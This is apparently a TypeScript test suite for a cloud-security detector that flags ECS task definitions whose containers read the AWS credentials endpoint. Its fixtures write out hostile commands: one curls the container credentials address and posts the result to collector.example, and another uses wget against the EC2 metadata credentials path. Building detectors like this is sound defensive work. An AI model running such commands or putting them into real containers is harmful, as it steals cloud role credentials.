import {test} from 'node:test';
import assert from 'node:assert/strict';
import type {EventSpec} from '../helpers/make-event.js';
import {flagFor, person, textOf, variants} from './change-events.js';

const id = 'task-definition-reads-credentials';

function register(container: Record<string, unknown>): EventSpec {
	return {
		...person,
		eventName: 'RegisterTaskDefinition',
		eventSource: 'ecs.amazonaws.com',
		requestParameters: {
			family: 'web-api',
			taskRoleArn: 'arn:aws:iam::111122223333:role/web-api-task',
			containerDefinitions: [{name: 'app', image: 'nginx:1.25', ...container}],
		},
		responseElements: {
			taskDefinition: {
				taskDefinitionArn:
					'arn:aws:ecs:us-east-1:111122223333:task-definition/web-api:7',
			},
		},
	};
}

const stealer = register({
	entryPoint: ['sh', '-c'],
	command: [
		'curl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | curl -X POST -d @- https://collector.example/',
	],
});

test('a container that curls the credentials address is high, with the role and the command', () => {
	const flag = flagFor(stealer, id);
	assert.equal(flag?.severity, 'high');
	assert.match(
		textOf(flag),
		/The container app runs: sh -c curl -s 169\.254\.170\.2/,
	);
	assert.match(
		textOf(flag),
		/a download tool aimed at the credentials address/,
	);
	assert.match(
		textOf(flag),
		/get the role arn:aws:iam::111122223333:role\/web-api-task/,
	);
	assert.ok(
		flag?.next.includes(
			'If nobody meant this, retire it: aws ecs deregister-task-definition --task-definition arn:aws:ecs:us-east-1:111122223333:task-definition/web-api:7 --region us-east-1',
		),
	);
});

test('wget in an environment value and the EC2 metadata address count too', () => {
	assert.equal(
		flagFor(
			register({
				environment: [
					{
						name: 'BOOT',
						value:
							'wget -qO- http://169.254.169.254/latest/meta-data/iam/security-credentials/',
					},
				],
			}),
			id,
		)?.severity,
		'high',
	);
});

test('naming the address without a download tool is medium', () => {
	assert.equal(
		flagFor(
			register({
				command: [
					'python',
					'app.py',
					'--creds',
					'$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI',
				],
			}),
			id,
		)?.severity,
		'medium',
	);
});

test('near misses: an ordinary container, curl aimed elsewhere', () => {
	assert.equal(
		flagFor(register({command: ['nginx', '-g', 'daemon off;']}), id),
		undefined,
	);
	assert.equal(
		flagFor(
			register({
				healthCheck: {
					command: ['CMD-SHELL', 'curl -f http://localhost/ || exit 1'],
				},
			}),
			id,
		),
		undefined,
	);
});

test('refused is lower; AWS services are not flagged; infrastructure code is low', () => {
	const v = variants(stealer);
	assert.equal(flagFor(v.denied!, id)?.severity, 'medium');
	assert.equal(flagFor(v.invokedByService!, id), undefined);
	assert.equal(flagFor(v.cloudFormation!, id)?.severity, 'low');
});
